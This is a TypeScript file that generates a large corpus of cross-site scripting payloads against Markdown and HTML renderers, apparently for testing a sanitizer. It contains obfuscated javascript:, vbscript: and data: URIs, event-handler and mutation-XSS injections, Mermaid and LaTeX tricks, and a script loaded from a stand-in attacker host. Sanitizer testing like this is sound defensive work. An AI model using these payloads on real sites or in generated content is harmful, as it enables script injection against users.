/**
 * Attacks on whoever renders a model's Markdown, after the public collections (OWASP's filter evasion cheat sheet,
 * PortSwigger's, html5sec, DOMPurify's mutation tests). Each would set `window.glimpseAttacked` if it ran.
 */
const CALL = "window.glimpseAttacked=1";

const EVENTS = [
  "abort afterprint animationend animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste",
  "beforeprint beforetoggle beforeunload begin blur bounce canplay change click close contextmenu copy cuechange cut",
  "dblclick drag dragend dragenter dragover dragstart drop durationchange end ended error finish focus focusin focusout",
  "formdata fullscreenchange hashchange input invalid keydown keypress keyup load loadeddata loadstart message mousedown",
  "mouseenter mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointerdown",
  "pointerenter pointermove pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll",
  "scrollend search seeked seeking select selectionchange show start stalled submit suspend timeupdate toggle",
  "touchend touchstart transitionend transitionrun unhandledrejection unload volumechange waiting wheel",
].flatMap((line) => line.split(" "));

function eventHandlers(): string[] {
  return EVENTS.flatMap((event, index) => {
    const [tag, rest] = [
      ["img", "src=x"],
      ["svg", ""],
      ["body", ""],
      ["video", "src=x autoplay"],
      ["input", "autofocus"],
      ["details", "open"],
      ["marquee", ""],
      ["custom-element", "tabindex=1 style=animation:x"],
    ][index % 8] ?? ["b", ""];
    return [
      `<${tag} ${rest} on${event}="${CALL}">`,
      `<${tag}/${rest}/on${event.toUpperCase()}=${CALL}//`,
      `<${tag} ${rest} on${event}\n=\n'${CALL}'>x</${tag}>`,
    ];
  });
}

/** Ways to write a scheme that a filter may not know again. */
const SPELLINGS: ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:`,
  (scheme) => `${scheme.toUpperCase()}:`,
  (scheme) => `${[...scheme].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join("")}:`,
  (scheme) => `${scheme.slice(0, 4)}&Tab;${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}&NewLine;${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}&#9;${scheme.slice(4)}:`,
  (scheme) => `${scheme}&colon;`,
  (scheme) => `${scheme}&#58;`,
  (scheme) => `${scheme}&#x3A;`,
  (scheme) => `&#1;${scheme}:`,
  (scheme) => `&#32;${scheme}:`,
  (scheme) => `${[...scheme].map((letter) => `&#${letter.charCodeAt(0)};`).join("")}:`,
  (scheme) => `${[...scheme].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join("")}:`,
  (scheme) =>
    `${[...scheme].map((letter) => `&#${letter.charCodeAt(0).toString().padStart(7, "0")}`).join(";")};:`,
  (scheme) => `${[...scheme].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join("")}%3A`,
  (scheme) => `\\${scheme}:`,
  (scheme) => `${scheme}\u200b:`,
  (scheme) => `\ufeff${scheme}:`,
  (scheme) => `${scheme.replace("s", "\u017f")}:`,
  (scheme) => `feed:${scheme}:`,
  (scheme) => `view-source:${scheme}:`,
  (scheme) => `//${scheme}:`,
];

const TARGETS: [scheme: string, rest: string][] = [
  ["javascript", CALL],
  ["vbscript", CALL],
  ["data", `text/html,<script>parent.${CALL}</script>`],
  ["data", "text/html;base64,PHNjcmlwdD5wYXJlbnQuZ2xpbXBzZUF0dGFja2VkPTE8L3NjcmlwdD4="],
];

/** Everything in Markdown and HTML that takes an address. */
const LINK_FORMS: ((address: string, at: number) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}> "title")`,
  (address, at) => `[click][ref${at}]\n\n[ref${at}]: ${address}`,
  (address, at) => `[col${at}][]\n\n[col${at}]: <${address}> 'title'`,
  (address) => `<${address}>`,
  (address) => `![image](${address})`,
  (address) => `[![image](${address})](${address})`,
  (address, at) => `Note[^n${at}]\n\n[^n${at}]: [back](${address})`,
  (address) => `| [cell](${address}) | ![](${address}) |\n| --- | --- |\n| <${address}> | [x](${address}) |`,
  (address) => `<a href="${address}">click</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>go</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text x=0 y=9>x</text></a></svg>`,
  (address) => `<math href="${address}">click</math>`,
];

function addresses(): string[] {
  return TARGETS.flatMap(([scheme, rest], target) =>
    SPELLINGS.flatMap((spell, spelling) =>
      // Each spelling in some of the forms; over all of them, every form has every kind of address.
      LINK_FORMS.filter((_, form) => (form + spelling + target) % 2 === 0).map((write, form) =>
        write(spell(scheme) + rest, target * 10_000 + spelling * 100 + form),
      ),
    ),
  );
}

const TAGS = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script\n>${CALL}</script\n>`,
  `<script/x>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script type=module>${CALL}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script src=data:,${CALL}></script>`,
  `<script>${CALL}`,
  `<<script>${CALL}//<</script>`,
  `\u003cscript\u003e${CALL}\u003c/script\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `＜script＞${CALL}＜/script＞`,
  `<script>/*<!--*/${CALL}//--></script>`,
  `"><script>${CALL}</script>`,
  `'-${CALL}-'`,
  `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}" /></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${CALL} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`,
  `<svg><foreignObject><iframe onload=${CALL}></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<math><mi//xlink:href="javascript:${CALL}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><svg/onload=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<template shadowrootmode=open><script>${CALL}</script></template>`,
  `<select><template><style><!--</style><a rel="--><img onerror=${CALL} src>">`,
  `<listing>&lt;img onerror="${CALL}" src=x&gt;</listing>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${CALL}"></b>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<base href="javascript:/a/-${CALL}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<isindex type=image src=1 onerror=${CALL}>`,
  `<button formaction=javascript:${CALL}>x</button>`,
  `<input type=image formaction=javascript:${CALL}>`,
  `<a href=javascript:${CALL} autofocus onfocus=${CALL}>x</a>`,
  `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
  `<img src=x onerror\x00="${CALL}">`,
  `<img \x00src=x\x0conerror=${CALL}>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!-- --!><img src=x onerror=${CALL}> -->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
  `<!DOCTYPE x [<!ENTITY x "<img src=x onerror=${CALL}>">]>&x;`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `<b is="x" v-html="'<img src=x onerror=${CALL}>'">`,
  `<div id=__proto__><div name=attributes><a id=location href=javascript:${CALL}>`,
  `\u202e<script>${CALL}</script>`,
  `<img src=x onerror=&#119;indow.glimpseAttacked=1>`,
  `<ſcript>${CALL}</ſcript>`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\x1b(J<script>${CALL}</script>`,
];

/** Where in a document a tag may stand. */
const PLACES: ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `# ${tag}`,
  (tag) => `- ${tag}\n  - ${tag}`,
  (tag) => `> ${tag}`,
  (tag) => `**${tag}** _${tag}_ ~~${tag}~~`,
  (tag) => `| ${tag} |\n| --- |\n| ${tag} |`,
  (tag) => `[${tag}](https://example.com "${tag}")`,
  (tag) => `\`\`\`html\n${tag}\n\`\`\``,
  (tag) => `\`\`\`${tag}\ncode\n\`\`\``,
  (tag) => `\`${tag}\` and \\${tag}`,
  (tag) => `<div>\n\n${tag}\n\n</div>`,
];

function tagsInPlaces(): string[] {
  return TAGS.flatMap((tag, at) =>
    PLACES.filter((_, place) => place === 0 || (place + at) % 3 === 0).map((put) => put(tag)),
  );
}

const FENCES = [
  "```constructor\nx\n```",
  "```__proto__\nx\n```",
  `\`\`\`mermaid\ngraph TD\nA-->B\nclick A href "javascript:${CALL}"\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\nA["<img src=x onerror=${CALL}>"]\n\`\`\``,
  `\`\`\`{=html}\n<script>${CALL}</script>\n\`\`\``,
  `\`\`\`js" onmouseover="${CALL}\nx\n\`\`\``,
  `~~~html ${CALL}\n<img src=x onerror=${CALL}>\n~~~`,
  `$$\\href{javascript:${CALL}}{x}$$`,
  `$\\url{javascript:${CALL}}$ $\\htmlData{x=y}{z}$ $\\unicode{<img src=x onerror=${CALL}>}$`,
  `::: {onclick="${CALL}"}\nx\n:::`,
  `# Title {#id onclick=${CALL}}`,
  `[x]{onclick="${CALL}"}`,
  `[[javascript:${CALL}]]`,
  `@import javascript:${CALL}`,
];

/** At least a thousand. */
export const xssPayloads: string[] = [
  ...new Set([...eventHandlers(), ...addresses(), ...tagsInPlaces(), ...FENCES]),
];
